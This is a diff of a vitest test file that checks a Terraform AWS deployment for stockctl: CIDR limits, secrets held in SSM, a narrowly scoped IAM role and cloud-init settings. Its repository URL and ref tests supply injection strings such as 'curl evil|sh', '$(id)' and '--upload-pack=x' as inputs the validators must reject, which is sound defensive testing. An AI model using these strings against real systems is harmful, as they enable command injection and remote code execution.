@@ -6,6 +6,9 @@ import { spawnSync } from 'node:child_process';
 import { readFileSync } from 'node:fs';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { OUTPUTS_READ } from '../../cli/aws/deploy.js';
+import { checkOperatorCidr } from '../../cli/aws/settings.js';
+import { parameterName, PLACEHOLDER } from '../../cli/aws/ssm.js';
+import { SECRET_NAMES } from '../../config/secrets.js';
 import { loadConfig } from '../../config/load.js';
 import { layout } from '../../cli/layout.js';
 import { fromRoot } from '../../config/paths.js';
@@ -34,10 +37,85 @@ describe('terraform/', () => {
       expect(v.type, name).toBeTruthy();
       expect(String(v.description ?? ''), name).toMatch(/\w{4,}/);
     }
-    for (const name of ['name', 'region', 'operator_cidr', 'key_pair_name', 'stack_instance_type', 'kafka_brokers', 'spark_workers', 'root_volume_size_gb', 'repository_url', 'kafka_cluster_id']) {
+    for (const name of ['name', 'region', 'operator_cidr', 'key_pair_name', 'stack_instance_type', 'kafka_brokers', 'spark_workers', 'root_volume_size_gb', 'repository_url', 'repository_ref', 'kafka_cluster_id']) {
       expect(tf.variable[name].validation?.[0]?.condition, name).toBeTruthy();
     }
-    expect(tf.variable.operator_cidr.validation[0].condition).toContain('0.0.0.0/0');
+  });
+
+  /** The regular expression inside a validation's can(regex("…", var.x)), as RE2 reads the HCL string. */
+  const validationRegex = (name: string): RegExp => {
+    const condition = String(tf.variable[name].validation[0].condition);
+    const literal = new RegExp(`regex\\("(.*?)", var\\.${name}\\)`).exec(condition)?.[1] as string;
+    return new RegExp(literal.replaceAll('\\\\', '\\'));
+  };
+
+  it('takes as operator_cidr one host or a network of at most 256 addresses, as the CLI does', () => {
+    const re = validationRegex('operator_cidr');
+    const condition = String(tf.variable.operator_cidr.validation[0].condition);
+    const accepts = (cidr: string) => re.test(cidr) && !(condition.includes('!startswith(var.operator_cidr, "0.")') && cidr.startsWith('0.'));
+    for (const ok of ['203.0.113.7/32', '198.51.100.0/24', '10.1.2.0/28']) {
+      expect(accepts(ok), ok).toBe(true);
+      expect(() => checkOperatorCidr(ok), ok).not.toThrow();
+    }
+    for (const bad of ['0.0.0.0/0', '0.0.0.0/1', '128.0.0.0/1', '10.0.0.0/8', '203.0.113.0/23', '0.0.0.0/32', '203.0.113.7', '203.0.113.7/33', '300.1.1.1/32', '::/0']) {
+      expect(accepts(bad), bad).toBe(false);
+      expect(() => checkOperatorCidr(bad), bad).toThrow();
+    }
+  });
+
+  it('takes a repository URL and ref only of the characters git needs, which cloud-init quotes as one word each', () => {
+    const url = validationRegex('repository_url');
+    const ref = validationRegex('repository_ref');
+    expect(url.test('https://github.com/you/stockctl.git') && url.test('git@github.com:you/stockctl.git')).toBe(true);
+    for (const bad of ['https://x.example/a.git; curl evil|sh', "https://x.example/a'b", 'https://x.example/$(id)', 'file:///etc']) expect(url.test(bad), bad).toBe(false);
+    expect(ref.test('main') && ref.test('v1.2.3') && ref.test('feature/x')).toBe(true);
+    for (const bad of ['--upload-pack=x', 'main$(id)', "a'b", 'a b']) expect(ref.test(bad), bad).toBe(false);
+    const init = readFileSync(fromRoot('terraform', 'cloud-init.yaml.tftpl'), 'utf8');
+    expect(init).toContain("git clone -- '${repository_url}' stockctl");
+    expect(init).toContain("git checkout '${repository_ref}'");
+  });
+
+  it('keeps the secrets in SSM SecureStrings that Terraform creates with a placeholder and never sees', () => {
+    const [[name, param]] = resources('aws_ssm_parameter') as [[string, Json]];
+    expect(name).toBe('secret');
+    expect(param.type).toBe('SecureString');
+    expect(param.value).toBe(PLACEHOLDER);
+    expect(param.lifecycle[0].ignore_changes).toEqual(['value']);
+    expect(param.name).toBe('${local.secret_prefix}/${each.key}');
+    expect(tf.locals.secret_prefix).toBe('/stockctl/${var.name}');
+    expect(parameterName('${var.name}', 'kafka_client')).toBe('/stockctl/${var.name}/kafka_client');
+    expect(tf.locals.secret_names).toEqual([...SECRET_NAMES]);
+    // No variable carries a secret: nothing sensitive goes through tfvars, the plan or the state.
+    for (const [v, body] of Object.entries(tf.variable as Json)) {
+      expect(v, v).not.toMatch(/password|secret|token|key$/i);
+      expect(body.sensitive, v).toBeUndefined();
+    }
+  });
+
+  it('lets the instances read their own deployment\'s secrets and nothing else, through an instance role', () => {
+    const assume = tf.data.aws_iam_policy_document.assume_by_ec2.statement[0];
+    expect(assume.actions).toEqual(['sts:AssumeRole']);
+    expect(assume.principals[0]).toEqual({ type: 'Service', identifiers: ['ec2.amazonaws.com'] });
+    const [read, decrypt] = tf.data.aws_iam_policy_document.read_secrets.statement;
+    expect(read.actions).toEqual(['ssm:GetParameter', 'ssm:GetParameters']);
+    expect(read.resources).toBe('${[for p in aws_ssm_parameter.secret : p.arn]}');
+    expect(decrypt.actions).toEqual(['kms:Decrypt']);
+    expect(decrypt.condition[0]).toEqual({ test: 'StringEquals', variable: 'kms:ViaService', values: ['ssm.${var.region}.amazonaws.com'] });
+    expect(resources('aws_iam_role_policy')[0]?.[1].role).toBe('${aws_iam_role.node.id}');
+    for (const [n, i] of resources('aws_instance')) expect(i.iam_instance_profile, n).toBe('${aws_iam_instance_profile.node.name}');
+  });
+
+  it('configures every node to fetch the secrets, then run Kafka with SCRAM, PostgreSQL with TLS and Spark authenticated', () => {
+    const init = readFileSync(fromRoot('terraform', 'cloud-init.yaml.tftpl'), 'utf8');
+    const yaml = init.slice(init.indexOf('cat > config/aws-node.yaml <<YAML'), init.indexOf('      YAML\n'));
+    expect(yaml).toMatch(/^ {8}auth: scram$/m);
+    expect(yaml).toMatch(/^ {8}tls: "on"$/m);
+    expect(yaml).toMatch(/^ {8}authenticate: "true"$/m);
+    expect(yaml).toMatch(/^ {8}name: \$\{name\}$/m);
+    const pull = init.indexOf('main.js --config config/aws-node.yaml secrets pull');
+    expect(pull).toBeGreaterThan(init.indexOf('YAML\n      #'));
+    for (const start of ['main.js setup', 'up --skip-setup', 'cluster join']) expect(init.indexOf(start), start).toBeGreaterThan(pull);
+    expect(tf.locals.node_setup).toMatchObject({ name: '${var.name}', region: '${var.region}' });
   });
 
   it('admits SSH and the dashboard from the operator only, and opens Kafka and PostgreSQL to no one', () => {
@@ -59,7 +137,7 @@ describe('terraform/', () => {
 
   it('tags every resource that takes tags, and the provider tags the rest', () => {
     expect(tf.provider.aws.default_tags[0].tags).toBe('${local.tags}');
-    for (const type of ['aws_instance', 'aws_security_group', 'aws_vpc_security_group_ingress_rule', 'aws_vpc_security_group_egress_rule']) {
+    for (const type of ['aws_instance', 'aws_security_group', 'aws_vpc_security_group_ingress_rule', 'aws_vpc_security_group_egress_rule', 'aws_ssm_parameter', 'aws_iam_role', 'aws_iam_instance_profile']) {
       for (const [name, r] of resources(type)) expect(r.tags, `${type}.${name}`).toBeTruthy();
     }
     expect(tf.locals.tags).toContain('"stockctl:deployment" = var.name');
